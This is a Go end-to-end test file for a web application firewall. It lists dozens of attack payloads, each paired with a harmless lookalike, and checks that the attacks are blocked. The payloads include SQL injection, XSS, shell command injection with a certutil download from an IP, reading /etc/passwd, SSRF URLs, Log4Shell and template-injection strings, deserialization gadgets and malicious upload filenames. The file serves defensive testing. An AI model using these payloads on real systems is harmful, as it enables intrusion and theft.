package e2e

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// A twin is an attack and something ordinary that looks like it.
type twin struct{ attack, ordinary string }

// attackTexts are attacks as somebody types them into a field.
func attackTexts() []twin {
	return []twin{
		{`1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--`, `the Union of 1926`},
		{`1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -`, `5 / 3`},
		{`1' OR 1=1-- -`, `it's 1 or 2`},
		{`' OR ''='`, `it's '' empty`},
		{`admin'--`, `admin's`},
		{`admin' #`, `admin #1`},
		{`\' OR 1=1-- -`, `C:\x or 1`},
		{`\'; --`, `it\'s -- well`},
		{"1` or 1=1-- -", "`a` or `b` = c"},
		{`' or count(/*)=1 or '1'='2`, `count the names`},
		{`'] | //user/* | a['`, `[a] | b`},
		{`1'; WAITFOR DELAY '0:0:5'--`, `wait for the delay`},
		{`1' AND extractvalue(1,concat(0x7e,version()))-- -`, `extract value of version`},
		{`1 union distinct select 1`, `one union, distinct`},
		{`<svg/onload=alert(1)>`, `I <3 you`},
		{`javascript:alert(1)`, `java script`},
		{`<details open ontoggle=alert(1)>`, `details: open`},
		{`" autofocus onfocus=alert(1) x="`, `"auto focus"`},
		{"<img src=x onerror\n=alert(1)>", `an image`},
		{`{{constructor.constructor('alert(1)')()}}`, `{{name}}`},
		{`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `+ADw`},
		{`&#60;script&#62;alert(1)&#60;/script&#62;`, `&#60; is <`},
		{`%3Cscript%3Ealert(1)%3C/script%3E`, `%3C is <`},
		{`;id`, `name;email`},
		{`|id`, `user|id`},
		{"`id`", "the `id` column"},
		{`127.0.0.1; id`, `127.0.0.1; localhost`},
		{`8.8.8.8 && whoami`, `8.8.8.8 && 8.8.4.4`},
		{`%0aid`, `%0a is a line end`},
		{`a;ps aux`, `a;b`},
		{`;cat${IFS}/etc/passwd`, `cat food`},
		{`$(</etc/passwd)`, `less is more`},
		{`() { :;}; /bin/bash -c id`, `() => 1`},
		{`; {cat,/etc/passwd}`, `{cat, dog}`},
		{`; net user hacker pass /add`, `net users and gross users`},
		{`cmd.exe /c whoami`, `cmd or ctrl`},
		{`& certutil -urlcache -f http://198.51.100.7/x x`, `certificate utilities`},
		{`|regsvr32 /s /u x`, `register`},
		{`wmic process list`, `which process`},
		{`....//....//etc/passwd`, `a // b`},
		{`..%252f..%252f..%252fetc%252fpasswd`, `100%25`},
		{`..\..\..\windows\win.ini`, `windows, 10`},
		{`/proc/self/environ`, `the environment`},
		{`php://filter/convert.base64-encode/resource=index.php`, `PHP filters`},
		{`/app/.env`, `the .env file`},
		{`http://127.1/`, `https://www.example.com/127.1`},
		{`http://0x7f000001/`, `https://www.example.com/0x7f`},
		{`http://2130706433/`, `https://www.example.com/2130706433`},
		{`http://a:b@127.0.0.1/`, `https://www.example.com/@ann`},
		{`dict://127.0.0.1:11211/stat`, `a dict: 1`},
		{`ldap://198.51.100.7/a`, `LDAP: yes`},
		{`//198.51.100.7/shell.txt`, `// a comment`},
		{`http://[::ffff:7f00:1]/`, `https://www.example.com/a:b`},
		{`unix:///var/run/docker.sock`, `unix: a system`},
		{`\\198.51.100.7\share\x`, `\\server\share`},
		{`http://kubernetes.default.svc/api`, `https://kubernetes.io/docs/`},
		{`${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}`, `$ 5 {a}`},
		{`{{7*7}}`, `{{price}}`},
		{`@(7*7)`, `@(ann)`},
		{`%{7*7}`, `%{name}`},
		{`{{config.items()}}`, `{{config.title}}`},
		{`{{ cycler.__init__ }}`, `{{ cycle }}`},
		{`{{'a'.toUpperCase()}}`, `{{ 'a' | upper }}`},
		{`{{self._TemplateReference__context}}`, `{{self}}`},
		{`%{#context['xwork.MethodAccessor.denyMethodExecution']=false}`, `%{context}`},
		{`global.process.exit()`, `a global process`},
		{`Function('return process')().exit()`, `a function that returns`},
		{`Runtime.getRuntime().exec`, `the runtime`},
		{`System.Diagnostics.Process.Start(1)`, `system diagnostics`},
		{`!!python/object/apply:os.system ['id']`, `!! python`},
		{"cos\nsystem\n(S'id'\ntR.", `cosine and sine`},
		{`gASVAAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==`, `gASdAAAAAAAA`},
		{`BAhvOkBBY3RpdmVTdXBwb3J0`, `BAhBAh`},
		{`aced0005737200`, `aced 0005`},
		{`O:8:"stdClass":1:{s:1:"a";s:1:"b";}`, `O: 8`},
		{"<?= `id` ?>", `id = ?`},
		{`x%0d%0aLocation: http://e/`, `Location: Berlin`},
		{"ann@example.com\nBcc: bob@example.com", "ann@example.com\nBest wishes, Bob"},
		{`<!--#exec cmd="id"-->`, `#exec`},
		{`*)(uid=*))(|(uid=*`, `* (a)`},
	}
}

// attackRequests are attacks that are in how a request is written. The second may be "".
func attackRequests() (list []twin) {
	form := func(head, body string) string {
		return waf("POST", "/public/x", multipart("Content-Disposition: form-data; "+head+"\r\n\r\n"+body), multipartType)
	}
	file := func(name string) string { return form(`name="f"; filename=`+name, "x") }
	for _, name := range []string{
		`"a.pHp5"`, `"a.phtml"`, `"a.phar"`, `"a.jsp"`, `"a.jspx"`, `"a.aspx"`, `"a.ashx"`, `"a.asp;.jpg"`, `"a.cfm"`, `"a.shtml"`, `"a.cgi"`, `"web.config"`, `".htaccess"`,
		`"a.php."`, `" a.php"`, "\"a.php\t\"", "\"a.php\u00a0\"", `"a.php%20"`, `"a.php%00.jpg"`, `"a.php::$DATA"`, `"a.php/"`, `a.php`, `'a.php'`, `"a.jpg"; filename="a.php"`,
		`"a.jpg"; filename*=UTF-8''a%2Ephp`, `"a.jpg"; filename*=utf-16''a.php`, `"a.jpg"; filename*0="a"; filename*1=".php"`, `"=?utf-8?B?c2hlbGwucGhw?="`, `"..\..\a.php"`, `"../../etc/cron.d/x"`,
		`"<svg onload=alert(1)>.jpg"`, `"a'; DROP TABLE x;--.jpg"`, `"$(id).jpg"`,
	} {
		list = append(list, twin{file(name), file(`"Ann's photograph (1).jpg"`)})
	}
	for _, head := range []string{`name="a"; x="` + injection + `"`, "name=\"a\"\r\nX-Custom: " + injection, `name="` + injection + `"`, "name=\"a\"\r\nContent-Type: text/plain; charset=utf-16"} {
		list = append(list, twin{form(head, "x"), form("name=\"user's name\"; size=5\r\nContent-Id: <a@example.com>", "x")})
	}
	typed := func(kind string) func(body string) string {
		return func(body string) string { return waf("POST", "/public/x", body, typed(kind)) }
	}
	json, xml, bytes := typed("application/json"), typed("application/xml"), typed("application/octet-stream")
	for _, t := range [][2]string{
		{`{"account.role":"` + injection + `","account":{"role":"safe"}}`, `{"account.role":"a","account":{"role":"safe"}}`},
		{`{"a":["` + injection + `"],"a.0":"safe"}`, `{"a":["x"],"a.0":"safe"}`},
		{`{"a":{"b":{"c":"` + injection + `"}},"a.b":{"c":"x"},"a.b.c":"x"}`, `{"a":{"b":{"c":"y"}},"a.b":{"c":"x"},"a.b.c":"x"}`},
		{`{"a":"` + injection + `","json.a":"x"}`, `{"a":"y","json.a":"x"}`},
		{`{"":"` + injection + `"}`, `{"":"x"}`},
		{`{"A":"` + injection + `","a":"x"}`, `{"A":"y","a":"x"}`},
		{`{"\u0061":"` + injection + `","a":"x"}`, `{"\u0061":"y","a":"x"}`},
		{`{"a":"x","a":"` + injection + `"}`, `{"a":"x","a":"y"}`},
		{`{"a":"1'\u0000 UNION SELECT password FROM users-- -"}`, `{"a":"\u00e9"}`},
		{`{"a":"1\uff07 UNION SELECT password FROM users-- -"}`, `{"a":"\ud83d\ude00"}`},
		{`{"a":"{\"b\":\"` + injection + `\"}"}`, `{"a":"{\"b\":\"x\"}"}`},
		{`{"user":{"$ne":null}}`, `{"user":{"ne":null}}`},
		{`{"a":{"__proto__":{"x":1}}}`, `{"a":{"b":1}}`},
		{`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"}`, `{"@type":"Person","name":"x"}`},
		{`{"o":{"@class":"org.springframework.context.support.FileSystemXmlApplicationContext"}}`, `{"logger":"org.springframework.context.support.Loader","@class":"Book"}`},
		{strings.Repeat(" ", 5000) + `{"a":"` + injection + `"}`, strings.Repeat(" ", 5000) + `{"a":"x"}`},
		{`{/*x*/"a":"` + injection + `"}`, `{"a":"/*x*/"}`},
		{`{"a":NaN,"b":"` + injection + `"}`, `{"a":1e10}`},
	} {
		list = append(list, twin{json(t[0]), json(t[1])})
	}
	for _, t := range [][2]string{
		{`<a xmlns:x="u" x:b="` + injection + `"/>`, `<a xmlns:x="u" x:b="y"/>`},
		{`<a xmlns="` + injection + `"/>`, `<a xmlns="urn:x"/>`},
		{`<a>1' <![CDATA[UNION SELECT]]> password FROM users-- -</a>`, `<a>x <![CDATA[y]]></a>`},
		{`<a><?php system('id'); ?></a>`, `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="a.xsl"?><a>x</a>`},
		{`<?php system('id'); ?><a/>`, `<a><?target an instruction?></a>`},
		{`<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>`, `<?xml version="1.0" encoding="UTF-8"?><a>x</a>`},
		{`<a><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/></a>`, `<a xmlns:xi="http://www.w3.org/2001/XInclude"/>`},
		{"<a \nb\t=\n\"" + injection + "\"/>", "<a \nb\t=\n\"x\"/>"},
		{`<a href="javascript:alert(1)"/>`, `<a href="https://example.com/"/>`},
		{`<a b="; cat /etc/passwd"/>`, `<a b="a; b"/>`},
	} {
		list = append(list, twin{xml(t[0]), xml(t[1])})
	}
	list = append(list, twin{bytes("\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07"), bytes("\xac\x00\xed\x05sr\x00\x11")})
	cookie := func(s string) string { return waf("GET", "/public/x", "", "Cookie: "+s) }
	for _, s := range []string{
		"=" + injection, "a=1;=" + injection, injection, `a="` + injection + `"`, "a=x, b=" + injection, "a =" + injection, injection + "=1", "a=1; a=" + injection, "a==" + injection,
		"a=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "a=../../../etc/passwd", `a={"b":"` + injection + `"}`, `a=%7B"b":"1%27%20UNION%20SELECT%20password"%7D`,
	} {
		list = append(list, twin{cookie(s), cookie(`a="b"; c=d=e; f=O%27Brien; g={"h":"i"}`)})
	}
	for _, t := range [][2]string{
		{"/public/x?a=1&" + escapedInjection + "=1", "/public/x?a=1&b=1"},
		{"/public/x?a=UNION&a=SELECT&a=1'%20or%201=1--", "/public/x?a=b&a=c"},
		{"/public/x?id=1'%20UNION/*&id=*/SELECT/*&id=*/password/*&id=*/FROM%20users--", "/public/x?id=1&id=2"},
		{"/public/x?a=%2531%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--", "/public/x?a=100%25"},
		{"/public/x?a=1%u0027%20UNION%20SELECT%20password%20FROM%20users--", "/public/x?a=1%25u"},
		{"/public/x?a=%c0%a7%20UNION%20SELECT%20password%20FROM%20users--", "/public/x?a=%C3%A9"},
		{"/public/x?user[$ne]=1", "/public/x?user[id]=1"},
		{"/public/x?next=%E5%98%8A%E5%98%8DSet-Cookie:%20a=b", "/public/x?next=%E5%98%8A:%20b"},
		{"/public/items/1%20or%201=1", "/public/items/1%20or%202"},
		{"/public/$(id)", "/public/Products(1)/$count"},
		{"/public/%60id%60", "/public/id"},
		{"/public/%24%7B(%23a=%40java.lang.Runtime%40getRuntime().exec(%22id%22))%7D/", "/public/(a)"},
		{"/public/etc/passwd", "/public/etc/motd"},
		{"/public/id_rsa", "/public/id_rsa.pub"},
		{"/public/actuator/gateway/routes", "/public/actuator/health"},
	} {
		list = append(list, twin{waf("GET", t[0], ""), waf("GET", t[1], "")})
	}
	return list
}

// TestVariantsOfAttacks sends attacks beside those of the list, and what resembles them: as text in a query, a form and JSON, and
// as whole requests, in each of three ways.
func TestVariantsOfAttacks(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{routes: `
  - {match: app.example.test/public/*, to: u, require: nothing}
  - {match: login.example.test, to: u, require: signed-in}
`, top: "waf_budget: {client: 100, burst: 10m, concurrent: 8}"})
	all := attackRequests()
	for _, v := range attackTexts() {
		for _, put := range []func(string) string{
			func(text string) string { return waf("GET", "/public/x?q="+url.QueryEscape(text), "") },
			func(text string) string {
				return waf("POST", "/public/x", "a=1&q="+url.QueryEscape(text), typed("application/x-www-form-urlencoded"))
			},
			func(text string) string {
				text = strings.ReplaceAll(jsonText(text), "\n", `\n`)
				return waf("POST", "/public/x", `{"a":[{"b":"`+text+`"}]}`, typed("application/json"))
			},
		} {
			all = append(all, twin{put(v.attack), put(v.ordinary)})
		}
	}
	for _, v := range all {
		s.threeWays(t, v.attack, func(way string, got answer) {
			if got.status != http.StatusForbidden && got.status != http.StatusBadRequest {
				t.Errorf("%s: %.400q: got %d, want a refusal", way, v.attack, got.status)
			}
			if seen := s.backend.drain(); len(seen) > 0 {
				t.Errorf("%s: %.400q: the upstream saw it", way, v.attack)
			}
		})
		s.threeWays(t, v.ordinary, func(way string, got answer) {
			if got.status != http.StatusOK {
				t.Errorf("%s: %.400q: got %d, want 200", way, v.ordinary, got.status)
			}
			s.backend.drain()
		})
	}
	t.Logf("%d attacks", len(all))
}
